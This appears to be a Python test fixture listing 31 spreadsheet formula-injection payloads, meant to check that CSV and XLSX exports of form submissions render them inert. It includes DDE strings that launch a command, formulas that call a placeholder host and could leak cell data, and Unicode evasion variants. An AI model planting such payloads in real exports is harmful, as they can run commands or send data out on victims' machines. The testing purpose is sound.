"""Submissions with invented people, and payloads that want to be formulas."""

from datetime import UTC, datetime

from hemval.queue.submission import Asked, Submission

RECEIVED = datetime(2026, 12, 2, 9, 30, 5, tzinfo=UTC)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")',
    '=WEBSERVICE("http://example.invalid")',
    '=IMPORTXML("http://example.invalid","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+46 70 174 06 05",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "％1",
    "﹦1+1",
    "−1+1",
    "\u3000\u200d＝1+1",
    "\u3164=1+1",
    "'=1+1",
    "{=1+1}",
    "http://example.invalid/",
    "0701740605",
)
"""31, each tried in CSV and XLSX: none may come alive."""


def choice(*asked: tuple[str, str, str], **other: object) -> Submission:
    values: dict[str, object] = {
        "id": "ab" * 16,
        "reference": "B4C79XKL",
        "received_at": RECEIVED,
        "form": "choice",
        "form_version": 1,
        "content_version": "0012e4567890",
        "language": "en",
        "channel": "web",
        "answers": {},
        "asked": tuple(Asked(id=i, question=q, answer=a) for i, q, a in asked),
    }
    return Submission.model_validate(values | other)
